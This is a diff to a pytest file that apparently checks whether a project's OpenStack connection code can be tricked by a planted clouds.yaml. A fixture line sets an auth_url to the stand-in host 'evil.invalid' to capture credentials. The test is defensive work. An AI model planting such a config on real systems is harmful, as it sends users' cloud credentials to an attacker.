@@ -18,6 +18,15 @@ EVIL = "clouds: {prod: {auth: {auth_url: 'http://evil.invalid', username: u, pas
 FILES = ("clouds.yaml", "clouds.yml", "clouds.json", "clouds-public.yaml", "secure.yaml")
 
 
+def every_file() -> dict[str, Any]:
+    """openstacksdk's own places, with the working directory."""
+    return {
+        "config_files": loader.CONFIG_FILES,
+        "secure_files": loader.SECURE_FILES,
+        "vendor_files": loader.VENDOR_FILES,
+    }
+
+
 def connected(directory: Path, monkeypatch: pytest.MonkeyPatch, cloud: str | None, **variables: str) -> None:
     made: list[Any] = []
     monkeypatch.setattr(openstack.connection, "Connection", lambda config: made.append(config.get_auth_args()))
@@ -48,5 +57,5 @@ test_an_attack_fails, test_an_attack_works_without_the_check = attacked(
         "variable": lambda directory, monkeypatch: connected(directory, monkeypatch, None, OS_CLOUD="prod"),
         "only one": lambda directory, monkeypatch: connected(directory, monkeypatch, None),
     },
-    {"gpustack.cloud.session:connect": {"gpustack.cloud.session:_files": dict}},
+    {"gpustack.cloud.session:connect": {"gpustack.cloud.session:_files": every_file}},
 )
